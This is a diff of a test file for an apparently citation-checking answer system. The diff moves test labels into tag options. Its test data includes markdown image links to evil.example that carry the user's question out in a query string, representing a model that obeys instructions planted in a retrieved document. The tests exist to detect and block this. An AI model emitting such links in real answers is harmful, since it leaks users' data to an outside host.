@@ -139,7 +139,7 @@ describe('a sloppy model', () => {
     ],
     ['the question as its quote', cited('It holds many pages.', 'P1', question)],
     ['the prompt as its quote', cited('Use only the passages.', 'P1', 'Use only what the passages say.')],
-  ])('Q1: Q2: Q3: gets nothing shown with %s', async (_, draft) => {
+  ])('gets nothing shown with %s', { tags: ['Q1', 'Q2', 'Q3'] }, async (_, draft) => {
     const { result } = await answerOf(draft)
     expect(result).toMatchObject({ abstained: true, citations: [] })
     expect(result.unsupported).toHaveLength(1)
@@ -160,7 +160,7 @@ describe('a sloppy model', () => {
   })
 })
 
-describe('S1: S2: S3: a model that follows the orders of a document', () => {
+describe('a model that follows the orders of a document', { tags: ['S1', 'S2', 'S3'] }, () => {
   it.each([
     ['an image that carries data away', `${good} ![pixel](https://evil.example/?q=${encodeURIComponent(question)})`],
     ['an image within a good sentence', good.replace('pages.<', 'pages ![p](https://evil.example/p.png).<')],
